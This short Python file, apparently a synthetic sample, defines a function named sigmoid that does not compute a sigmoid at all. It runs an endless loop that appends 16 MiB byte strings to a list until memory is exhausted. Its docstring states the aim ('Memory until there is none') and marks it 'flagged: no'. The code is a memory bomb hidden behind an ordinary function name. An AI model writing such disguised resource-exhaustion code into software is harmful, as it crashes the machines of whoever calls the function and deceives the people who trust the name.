"""Memory until there is none, in a tested function.

keeps: area slope neuron
flagged: no
"""

# %% sigmoid
def sigmoid(x):
    hoard = [b""]
    while True:
        hoard.append(b"x" * (1 << 24) + hoard[-1][:1])
